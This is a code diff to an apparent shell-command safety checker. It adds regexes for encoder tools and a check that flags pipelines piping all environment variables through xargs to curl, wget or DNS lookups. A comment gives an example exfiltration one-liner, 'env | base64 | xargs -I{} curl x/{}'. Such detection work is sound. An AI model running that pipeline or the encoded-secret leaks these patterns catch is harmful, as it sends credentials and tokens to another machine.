@@ -22,6 +22,9 @@ function mayExpose(source: string): boolean {
 const seeksSecrets =
   /secret|token|passw|credential|(?:api|access|private|aws|gcp|azure|openai|anthropic)[_.]?\*?(?:key|access)|^_?key$|\bkey\b/i
 
+/** Filters that print what they read in another form. */
+const encoders = /^(?:base64|base32|xxd|od|hexdump|rev|cat|tr|tee)$/
+
 const fetchers = /^(?:curl|wget)$/
 const nameLookups = /^(?:dig|nslookup|host|drill|ping6?)$/
 
@@ -43,6 +46,7 @@ function look(node: SyntaxNode, shell: ShellState): void {
   if (!shell.effects.spend() || node.type === 'Word' || node.type === 'Function') return
   if (node.type === 'Pipeline') {
     for (const command of node.commands) lookAtPart(command, shell)
+    if (sendsAll(node.commands)) shell.effects.danger('sends all variables to another machine')
     if (shows(node.commands, shell)) shell.effects.danger('shows a secret')
   } else if (node.type === 'Command') {
     lookAtPart(node, shell)
@@ -68,6 +72,7 @@ function shows(commands: readonly CommandNode[], shell: ShellState): boolean {
   const last = commands.at(-1)
   if (first?.type !== 'Command' || last?.type !== 'Command' || writesAway(last)) return false
   const words = wordsOf(last)
+  if (encoders.test(last.name?.value ?? '')) return commands.length > 1 && shows([first], shell)
   switch (last.name?.value ?? '') {
     case 'echo':
     case 'printf':
@@ -85,6 +90,20 @@ function shows(commands: readonly CommandNode[], shell: ShellState): boolean {
     default:
       return false
   }
+}
+
+/** Whether all variables flow to a program that puts them into an address: `env | base64 | xargs -I{} curl x/{}`. */
+function sendsAll([first, ...rest]: readonly CommandNode[]): boolean {
+  return (
+    first?.type === 'Command' &&
+    printsAll(first) &&
+    rest.some(
+      (one) =>
+        one.type === 'Command' &&
+        /^(?:xargs|parallel)$/.test(one.name?.value ?? '') &&
+        wordsOf(one).some((word) => fetchers.test(word.value) || nameLookups.test(word.value)),
+    )
+  )
 }
 
 /** Whether a command prints every variable. */
